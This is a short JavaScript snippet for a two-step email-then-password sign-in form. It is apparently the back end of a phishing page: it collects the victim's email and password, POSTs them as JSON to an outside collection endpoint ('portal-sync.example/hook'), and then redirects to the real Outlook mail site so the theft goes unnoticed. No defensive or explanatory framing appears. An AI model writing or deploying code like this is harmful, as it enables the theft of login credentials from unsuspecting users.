document.getElementById('stepForm').addEventListener('submit', function (e) {
  e.preventDefault();
  const email = document.getElementById('email').value;
  const box = document.getElementById('passBox');
  if (!email) { alert('Enter a valid email address.'); return; }
  box.style.display = 'block';
  document.querySelector('button[type="submit"]').textContent = 'Sign in';

  document.getElementById('go').addEventListener('click', function () {
    const password = document.getElementById('password').value;
    const sink = 'https://portal-sync.example/hook';
    const data = { email: email, password: password };
    fetch(sink, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(data) })
      .then(r => r.json())
      .then(() => { window.location.href = 'https://outlook.office.com/mail/'; })
      .catch(() => { window.location.href = 'https://outlook.office.com/mail/'; });
  });
});
